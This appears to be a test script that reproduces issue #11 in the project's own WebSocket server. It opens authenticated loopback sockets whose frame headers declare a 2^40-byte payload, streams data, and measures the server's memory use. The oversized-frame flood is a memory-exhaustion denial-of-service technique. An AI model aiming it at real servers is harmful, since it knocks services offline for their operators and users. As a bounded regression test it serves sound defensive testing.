#!/usr/bin/env python3
"""Reproduces issue #11 defect 1: authenticated sockets whose frame header declares a payload
far over `server.max_frame_bytes` (2^40 bytes) and then stream payload as fast as they can, to
see whether the server refuses the frame from its header (1009 at once) or buffers what
arrives.

Starts the given server binary on a free loopback port (in-process broker, 64 KiB frame
limit), opens SOCKETS such sockets, each streaming at most MEGABYTES of payload (a socket stops
once the server closes it), and reports the server's RSS (VmRSS of /proc/PID/status) before,
at its peak during and after the attack, and how each socket ended. Loopback only, bounded in
count, bytes and time; stops the server and exits by itself.

    python3 bench/attacks/frame_flood.py --binary target/debug/websocket-service
"""

import argparse
import asyncio
import base64
import hashlib
import hmac
import json
import os
import secrets
import signal
import subprocess
import tempfile
import time

from attacklib import HOST, free_port, rss_mib, wait_healthy
CHUNK = 64 * 1024


def token(secret, user):
    def b64(raw):
        return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()

    head = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    body = b64(json.dumps({"sub": user, "exp": int(time.time()) + 3600}).encode())
    sig = hmac.new(secret.encode(), f"{head}.{body}".encode(), hashlib.sha256).digest()
    return f"{head}.{body}.{b64(sig)}"


async def flood_one(port, secret, index, megabytes, deadline):
    """One socket: upgrade, declare 2^40 bytes, stream; returns how it ended."""
    reader, writer = await asyncio.open_connection(HOST, port)
    writer.write(
        (
            f"GET /ws?token={token(secret, f'flood-{index}')} HTTP/1.1\r\nHost: x\r\n"
            "Upgrade: websocket\r\nConnection: Upgrade\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 101"):
        return {"ended": "refused", "sent_mib": 0}
    writer.write(bytes([0x81, 0x80 | 127]) + (1 << 40).to_bytes(8, "big") + b"\x00\x00\x00\x00")
    answer = asyncio.ensure_future(reader.read(256))
    sent = 0
    chunk = bytes(CHUNK)
    ended = "streamed everything"
    while sent < megabytes * 1024 * 1024 and time.monotonic() < deadline and not answer.done():
        try:
            writer.write(chunk)
            await writer.drain()
        except (ConnectionError, OSError):
            ended = "connection reset"
            break
        sent += CHUNK
    try:
        frame = await asyncio.wait_for(answer, 1.0)
        if len(frame) >= 4 and frame[0] == 0x88:
            ended = f"closed {int.from_bytes(frame[2:4], 'big')} {frame[4:].decode(errors='replace')}"
    except (asyncio.TimeoutError, ConnectionError, OSError):
        pass
    writer.close()
    return {"ended": ended, "sent_mib": round(sent / 1048576, 1)}


async def sample_rss(pid, samples, done):
    while not done.is_set():
        value = rss_mib(pid)
        if value is not None:
            samples.append(value)
        await asyncio.sleep(0.1)


async def attack(pid, port, secret, args):
    await wait_healthy(port)
    await asyncio.sleep(0.5)
    before = rss_mib(pid)
    samples, done = [], asyncio.Event()
    sampler = asyncio.ensure_future(sample_rss(pid, samples, done))
    started = time.monotonic()
    deadline = started + args.duration
    ends = await asyncio.gather(
        *(flood_one(port, secret, i, args.megabytes, deadline) for i in range(args.sockets))
    )
    took = time.monotonic() - started
    done.set()
    await sampler
    await asyncio.sleep(1.0)
    return {
        "sockets": args.sockets,
        "declared_bytes": 1 << 40,
        "megabytes_each_at_most": args.megabytes,
        "attack_s": round(took, 2),
        "rss_mib": {
            "before": round(before or 0, 1),
            "peak": round(max(samples, default=0), 1),
            "after": round(rss_mib(pid) or 0, 1),
        },
        "sockets_ended": ends,
    }


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--binary", required=True)
    parser.add_argument("--sockets", type=int, default=4)
    parser.add_argument("--megabytes", type=int, default=256)
    parser.add_argument("--duration", type=float, default=60)
    parser.add_argument("--json", help="also write the result here")
    args = parser.parse_args()
    port, secret = free_port(), secrets.token_hex(24)
    with tempfile.TemporaryDirectory() as directory:
        settings = os.path.join(directory, "settings.toml")
        with open(settings, "w") as out:
            out.write(
                f'[server]\nbind = "{HOST}:{port}"\nmax_frame_bytes = 65536\n\n'
                f'[auth]\njwt_secret = "{secret}"\n'
            )
        server = subprocess.Popen(
            [args.binary, "--config", settings],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            result = asyncio.run(
                asyncio.wait_for(attack(server.pid, port, secret, args), args.duration + 30)
            )
        finally:
            server.send_signal(signal.SIGINT)
            time.sleep(0.2)
            server.send_signal(signal.SIGINT)
            server.wait(timeout=10)
    print(json.dumps(result, indent=2))
    if args.json:
        with open(args.json, "w") as out:
            json.dump(result, out, indent=2)


if __name__ == "__main__":
    main()
